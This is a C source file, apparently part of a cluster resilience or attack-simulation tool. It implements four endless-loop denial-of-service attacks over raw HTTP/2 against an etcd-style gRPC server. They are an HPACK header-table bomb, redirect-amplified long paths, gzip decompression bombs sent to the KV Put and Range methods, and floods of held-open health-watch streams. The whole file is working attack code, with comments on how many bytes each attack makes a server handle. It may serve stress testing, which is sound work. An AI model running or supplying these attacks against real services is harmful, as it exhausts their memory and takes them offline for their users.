/* A few bytes that stand for very many. */
#include "cluster/attacks_int.h"

#include "base/gzip.h"
#include "base/mem.h"

#include <string.h>

enum {
    BOMB_INDEXES = 63000,
    BOMB_VALUE_BYTES = 4000,
    PATH_BYTES = 180 * 1024, /* of a long one, */
    PATHS = 50,              /* and as many requests for a path that the table keeps, */
    PATH_KEPT_BYTES = 3900,
    GZIP_BOMB_BYTES = 48 * 1024 * 1024, /* of zeros: 47 KB, which fit into a window */
    GZIP_USUAL_BYTES = 2000 * 1024,     /* as much as a client may send: 2 KB */
    GZIP_USUAL_CALLS = 20,              /* of a connection */
    HEALTH_LINES = 4,
    HEALTH_CALLS = 30, /* of each */
};

/* A value as large as the table, named sixty thousand times: 67 KB that stand for 254 MB. */
static void put_hpack_bomb(struct buf *block)
{
    uint8_t *value = mem_alloc(BOMB_VALUE_BYTES);
    static const uint8_t head[] = {
        0x40, 1, 'x', 0x7f, (BOMB_VALUE_BYTES - 127) % 128 | 128, (BOMB_VALUE_BYTES - 127) / 128};

    memset(value, 'y', BOMB_VALUE_BYTES);
    raw_h2_put_request(block, "/etcdserverpb.KV/Range");
    buf_append(block, bytes_of(head, sizeof(head)));
    buf_append(block, bytes_of(value, BOMB_VALUE_BYTES));
    memset(buf_extend(block, BOMB_INDEXES), 0xbe, BOMB_INDEXES); /* 62, the newest entry */
    mem_free(value);
}

void attack_by_hpack_bombs(struct attacker *a)
{
    struct buf block = {0};
    struct raw_h2 r = {.fd = -1};

    put_hpack_bomb(&block);
    for (;; attacker_pause_ms(20)) {
        if (!raw_h2_open(&r, a->context, a->target.client, RAW_H2_WINDOW_USUAL))
            continue;
        do {
            attacker_made(a);
            attacker_pause_ms(20);
        } while (raw_h2_headers(&r, buf_bytes(&block), true) && raw_h2_drain(&r));
        raw_h2_close(&r);
    }
}

/* A redirect shows the path again, and each byte of this one takes three there. */
static void put_path(struct buf *block, size_t bytes)
{
    struct buf path = {0};

    buf_append_str(&path, "//");
    memset(buf_extend(&path, bytes), '"', bytes);
    raw_h2_put_get(block, buf_bytes(&path));
    buf_free(&path);
}

void attack_by_long_paths(struct attacker *a)
{
    struct buf first = {0}, kept = {0}, large = {0};
    struct raw_h2 r = {.fd = -1};

    put_path(&first, PATH_KEPT_BYTES);
    put_path(&large, PATH_BYTES);
    buf_append_byte(&kept, 0x82);
    buf_append_byte(&kept, 0x87);
    buf_append_byte(&kept, 0xbe); /* 62, the newest entry: the path */
    raw_h2_put_field(&kept, ":authority", BYTES("127.0.0.1"));
    for (;; attacker_pause_ms(100)) {
        if (!raw_h2_open(&r, a->context, a->target.client, RAW_H2_WINDOW_MAX))
            continue;
        bool is_well = raw_h2_headers(&r, buf_bytes(&first), true);
        while (is_well) {
            for (unsigned i = 0; i < PATHS && is_well; i++)
                is_well = raw_h2_headers(&r, buf_bytes(&kept), true);
            is_well = is_well && raw_h2_headers(&r, buf_bytes(&large), true);
            attacker_made(a);
            attacker_pause_ms(100);
            is_well = is_well && raw_h2_drain(&r);
        }
        raw_h2_close(&r);
    }
}

/* --- packed messages --- */

static void pack(struct bytes plain, struct buf *out)
{
    struct gzip *gzip = gzip_new();

    gzip_pack(gzip, plain, out);
    gzip_free(gzip);
}

/* A message with nothing but one field that nobody knows: number 15, of so many bytes. */
static void pack_unknown_field(size_t bytes, struct buf *out)
{
    struct buf plain = {0};

    buf_append_byte(&plain, 15 << 3 | 2);
    for (size_t left = bytes; left > 0; left >>= 7)
        buf_append_byte(&plain, (uint8_t)(left % 128 | (left >= 128 ? 128 : 0)));
    memset(buf_extend(&plain, bytes), 0, bytes);
    pack(buf_bytes(&plain), out);
    buf_free(&plain);
}

static bool send_packed(struct attacker *a, struct raw_h2 *r, const char *path,
                        struct bytes message)
{
    struct buf block = {0};

    raw_h2_put_request(&block, path);
    raw_h2_put_field(&block, "grpc-encoding", BYTES("gzip"));
    bool is_sent =
        raw_h2_headers(r, buf_bytes(&block), false) && raw_h2_message(r, message, true, true);
    buf_free(&block);
    attacker_made(a);
    return is_sent;
}

/* A message that is too large, then as many smaller ones at the same time as fit. */
void attack_by_gzip_bombs(struct attacker *a)
{
    struct buf plain = {0}, bomb = {0}, usual = {0};
    struct raw_h2 r = {.fd = -1};

    memset(buf_extend(&plain, GZIP_BOMB_BYTES), 0, GZIP_BOMB_BYTES);
    pack(buf_bytes(&plain), &bomb);
    buf_free(&plain);
    pack_unknown_field(GZIP_USUAL_BYTES, &usual);
    for (unsigned i = 0;; i++, attacker_pause_ms(50)) {
        if (!raw_h2_open(&r, a->context, a->target.client, RAW_H2_WINDOW_USUAL))
            continue;
        bool is_well = true;
        for (unsigned k = 0; k < GZIP_USUAL_CALLS && is_well && i % 2 == 0; k++)
            is_well = send_packed(a, &r, "/etcdserverpb.KV/Range", buf_bytes(&usual));
        if (i % 2 == 1)
            is_well = send_packed(a, &r, "/etcdserverpb.KV/Put", buf_bytes(&bomb));
        attacker_pause_ms(50);
        if (is_well)
            (void)!raw_h2_drain(&r);
        raw_h2_close(&r);
    }
}

/* Calls that do not end by themselves, each of which began with such a message. */
void attack_by_health_bombs(struct attacker *a)
{
    struct raw_h2 lines[HEALTH_LINES];
    struct buf usual = {0};

    pack_unknown_field(GZIP_USUAL_BYTES, &usual);
    for (unsigned i = 0; i < HEALTH_LINES; i++)
        lines[i] = (struct raw_h2){.fd = -1};
    for (;; attacker_pause_ms(100))
        for (unsigned i = 0; i < HEALTH_LINES; i++) {
            struct raw_h2 *r = &lines[i];
            if (!raw_h2_is_gone(r))
                continue;
            raw_h2_close(r);
            bool is_well = raw_h2_open(r, a->context, a->target.client, RAW_H2_WINDOW_USUAL);
            for (unsigned k = 0; k < HEALTH_CALLS && is_well; k++)
                is_well = send_packed(a, r, "/grpc.health.v1.Health/Watch", buf_bytes(&usual));
        }
}
